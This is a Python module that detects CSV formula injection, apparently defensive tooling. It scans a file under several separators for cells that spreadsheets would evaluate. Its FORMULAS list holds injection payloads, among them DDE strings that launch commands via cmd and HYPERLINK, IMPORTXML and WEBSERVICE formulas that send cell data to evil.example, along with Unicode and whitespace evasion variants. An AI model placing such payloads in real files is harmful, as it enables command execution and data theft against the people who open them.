"""A spreadsheet's reading of a file: which cells it would run, whatever its language is."""

import csv
import io
import unicodedata

# How cells begin that were found to run something, or to be taken for what does.
FORMULAS = [
    *("=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "=", "==1", "=+-@1", "+A1", "-A1", "@A1"),
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    '=WEBSERVICE("http://evil.example/")',
    '=DDE("cmd";"/C calc";"x")',
    *("\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "\t\t@A1", " =1+1", "\u00a0=1+1", "\u3000+1"),
    *("\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)", "'=1+1", "''=1+1", "' =1+1", '"=1+1'),
    *(
        "late;=1+1;",
        "late;+1",
        "a\t=1+1",
        "a|@A1|",
        "a\n=1+1\nb",
        "a\r\n-1",
        "a;' =1+1",
        ";;=1",
    ),
    *('";=1+1;"', '",=1+1,"', '"\n=1+1\n"', "a;\uff1d1+1", 'a;"=1+1"', 'a;""=1+1'),
]
_SEPARATORS = ",;\t|"


def live_cells(text: str) -> list[str]:
    """
    Return the cells of a file that a spreadsheet would run.

    A program in English separates cells by commas, one in Spanish by semicolons; whoever opens a
    file by hand may choose a tab or a bar. None of them takes a quote for one in the middle of
    what it holds for a cell.
    """
    found = []
    for separator in _SEPARATORS:
        lines = io.StringIO(text.removeprefix("\ufeff"), newline="")
        for row in csv.reader(lines, delimiter=separator):
            found += [cell for cell in row if _runs(cell)]
    return found


def _runs(cell: str) -> bool:
    """Say whether a cell is a formula, to the most obliging of them."""
    text = unicodedata.normalize("NFKC", cell).lstrip('" \t\r\n')
    return text.startswith(("=", "+", "-", "@"))
